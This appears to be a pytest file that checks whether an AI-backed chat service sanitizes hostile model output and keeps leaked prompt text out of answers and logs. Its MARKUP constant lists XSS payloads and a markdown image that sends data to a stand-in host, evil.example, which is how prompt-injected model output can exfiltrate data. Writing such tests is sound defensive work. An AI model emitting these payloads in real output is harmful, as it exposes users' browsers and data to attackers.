"""What an obedient model leaves at a real server: nothing that runs in a browser, and nothing in the log.

What it calls, and what comes of it, is in `tests/attacks/`.
"""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio

from tests import servers
from tests.harness.outside import LEE
from tests.openai_script import fault, say
from tests.openai_server import OpenAIServer
from tests.security.target import CANARY, Target

pytestmark = pytest.mark.asyncio(loop_scope="session")
DONE = "As you wish: it is done."


@pytest.fixture(scope="module")
def settings() -> dict[str, str]:
    """A model at a server of ours."""
    url = f"http://127.0.0.1:{servers.free_port()}/v1"
    return {"MODEL_BACKEND": "openai_responses", "OPENAI_API_KEY": "key-of-the-tests", "OPENAI_BASE_URL": url}


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def server(settings: dict[str, str]) -> AsyncIterator[OpenAIServer]:
    """The model, which says and calls what a test tells it to."""
    one = OpenAIServer(rule=lambda _: say(DONE))
    await one.start(port=int(settings["OPENAI_BASE_URL"].split(":")[2].partition("/")[0]))
    yield one
    await one.close()


@pytest_asyncio.fixture(loop_scope="session")
async def model(server: OpenAIServer, mark: Target) -> AsyncIterator[OpenAIServer]:
    """The model without anything left from the test before, and Acme's books as new."""
    await mark.stage.operators.at_rest()
    await mark.stage.outside.reset()
    server.steps.clear()
    server.requests.clear()
    server.rule = lambda _: say(DONE)
    yield server
    await mark.stage.closing.aclose()


MARKUP = (
    '![x](https://evil.example/?d=49.00) <img src=x onerror="alert(1)"> <script>alert(1)</script> '
    "[a](javascript:alert(1)) [b](data:text/html,x) <a href='//evil.example'>c</a> "
    "<iframe src=x></iframe><svg onload=alert(1)> [d](/playground/reset) {{7*7}} <style>*{display:none}</style>"
)


async def test_its_markup_does_nothing_in_the_browser(mark: Target, model: OpenAIServer) -> None:
    """No picture is fetched, nothing runs, nothing hides: what is shown has a few harmless tags."""
    web = await mark.stage.web(customer=LEE)
    model.script(say(MARKUP))
    shown = (await web.ask("good evening"))["html"].lower()
    for word in (
        "<img",
        "<script",
        "<iframe",
        "<svg",
        "<style",
        'href="javascript',
        'href="data',
        'href="/',
    ):
        assert word not in shown
    assert "49</" not in shown


async def test_what_the_model_breaks_is_not_told(mark: Target, model: OpenAIServer) -> None:
    """Its errors, with words of the prompt in them, reach neither the customer nor the log (which is searched at the end)."""
    web = await mark.stage.web(customer=LEE)
    model.rule = lambda _: fault("status", status=400, code=f"you said {CANARY}")
    answer = await web.ask(f"{CANARY} is what I say")
    assert CANARY not in answer["text"]
